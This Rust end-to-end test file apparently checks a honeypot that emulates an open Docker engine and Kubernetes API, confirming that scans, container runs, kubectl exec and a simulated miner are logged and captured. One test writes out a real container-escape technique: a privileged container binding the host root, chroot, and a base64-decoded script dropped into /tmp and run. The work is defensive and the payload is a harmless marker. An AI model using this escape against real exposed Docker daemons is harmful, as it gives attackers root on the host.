//! A Docker engine and a Kubernetes API open to the network, used and abused by stock clients.

use e2e::grid::{CLOUD, grid};
use e2e::tools::{must, sh};
use serde_json::Value;

const DECKY: &str = "e2e-cloud";

#[test]
fn nmap_names_docker_and_go() {
    grid();
    let scan = must(&format!("nmap -Pn -sV -n -p 2375,6443 {CLOUD}")).unwrap();
    assert!(scan.contains("Docker 20.10.24") && scan.contains("ssl/"), "{scan}");
    // nmap 7.93 knows no API server, and asks for the fingerprint of the genuine one as well; to this it answers so.
    let printed: String = scan.lines().filter_map(|line| line.strip_prefix("SF:")).collect();
    let genuine = r"HTTP/1\.1\x20400\x20Bad\x20Request\r\nContent-Type:\x20text/plain;\x20charset=utf-8\r\nConnection:\x20close\r\n\r\n400\x20Bad\x20Request";
    assert!(printed.contains(genuine), "{printed}");
}

#[test]
fn the_docker_client_runs_containers_on_the_machine() {
    grid();
    let docker = format!("docker -H tcp://{CLOUD}:2375");
    let ran = must(&format!("{docker} run --rm alpine id 2>/dev/null")).unwrap();
    assert!(ran.starts_with("uid=0(root)"), "{ran}");
    assert!(must(&format!("{docker} images")).unwrap().contains("alpine"));
    must(&format!("{docker} run -d --name marker-1 alpine sleep 300")).unwrap();
    assert!(must(&format!("{docker} ps")).unwrap().contains("marker-1"));
    let done = sh(&format!("{docker} exec marker-1 sh -c 'echo marker-exec; exit 3'")).unwrap();
    assert_eq!((done.text().as_str(), done.code), ("marker-exec\n", 3));
    must(&format!("{docker} rm -f marker-1")).unwrap();
    let told = grid()
        .event(DECKY, "exec_create", |event| text(event, "name") == "marker-1")
        .unwrap();
    assert_eq!(told["fields"]["cmd"][2], "echo marker-exec; exit 3");
    grid()
        .event(DECKY, "image_pull", |event| text(event, "image") == "alpine")
        .unwrap();
}

#[test]
fn a_miner_breaks_out_of_its_container_and_its_sample_is_kept_with_its_session() {
    grid();
    let sample = "#!/bin/sh\necho marker-miner started\n";
    let hash = must(&format!(
        "printf '{}' | sha256sum | cut -d' ' -f1",
        sample.escape_debug()
    ))
    .unwrap();
    let encoded = must(&format!("printf '{}' | base64 -w0", sample.escape_debug())).unwrap();
    let line = format!(
        "echo {} | base64 -d > /tmp/.m; chmod +x /tmp/.m; /tmp/.m",
        encoded.trim()
    );
    let body = serde_json::json!({
        "Image": "alpine", "Cmd": ["chroot", "/mnt", "sh", "-c", line],
        "HostConfig": {"Binds": ["/:/mnt"], "Privileged": true, "NetworkMode": "host"},
    });
    let api = format!("curl -sS -H 'Content-Type: application/json' http://{CLOUD}:2375");
    must(&format!("{api}/images/create?fromImage=alpine -X POST -o /dev/null")).unwrap();
    must(&format!("{api}/containers/create?name=marker-2 -d '{body}'")).unwrap();
    must(&format!("{api}/containers/marker-2/start -X POST")).unwrap();
    must(&format!("{api}/containers/marker-2/wait -X POST")).unwrap();
    let said = must(&format!(
        "{api}/containers/marker-2/logs?stdout=1 --output - | tail -c +9"
    ))
    .unwrap();
    assert_eq!(said, "marker-miner started\n");
    let kept = grid()
        .event(DECKY, "file_captured", |event| text(event, "sha256") == hash.trim())
        .unwrap();
    let start = grid()
        .event(DECKY, "container_start", |event| text(event, "name") == "marker-2")
        .unwrap();
    assert_eq!(kept["session"], start["session"], "{kept} {start}");
    let file = grid().state.join("artifacts").join(&hash[..2]).join(hash.trim());
    assert_eq!(std::fs::read_to_string(file).unwrap(), sample);
    let made = grid()
        .event(DECKY, "container_create", |event| text(event, "name") == "marker-2")
        .unwrap();
    assert_eq!(
        (&made["fields"]["privileged"], &made["fields"]["host_paths"][0]),
        (&true.into(), &"/".into())
    );
}

#[test]
fn kubectl_lists_runs_and_executes() {
    grid();
    let kubectl = format!(
        "HOME=/tmp KUBECONFIG=/dev/null kubectl --insecure-skip-tls-verify --username=nobody --password=none -s https://{CLOUD}:6443"
    );
    let all = must(&format!("{kubectl} get ns,pods -A")).unwrap();
    assert!(
        all.contains("namespace/kube-system") && all.contains("pod/etcd-"),
        "{all}"
    );
    must(&format!(
        "{kubectl} run marker-pod --image=alpine --restart=Never -- sleep 300"
    ))
    .unwrap();
    must(&format!(
        "{kubectl} wait --for=condition=Ready pod/marker-pod --timeout=20s"
    ))
    .unwrap();
    let ran = must(&format!("{kubectl} exec marker-pod -- id")).unwrap();
    assert!(ran.starts_with("uid=0(root)"), "{ran}");
    must(&format!("{kubectl} delete pod marker-pod --now --wait=false")).unwrap();
    let told = grid()
        .event(DECKY, "exec_create", |event| text(event, "pod") == "marker-pod")
        .unwrap();
    assert_eq!(told["fields"]["cmd"][0], "id");
    grid()
        .event(DECKY, "pod_create", |event| text(event, "image") == "alpine")
        .unwrap();
}

fn text(event: &Value, field: &str) -> String {
    event["fields"][field].as_str().unwrap_or_default().to_owned()
}
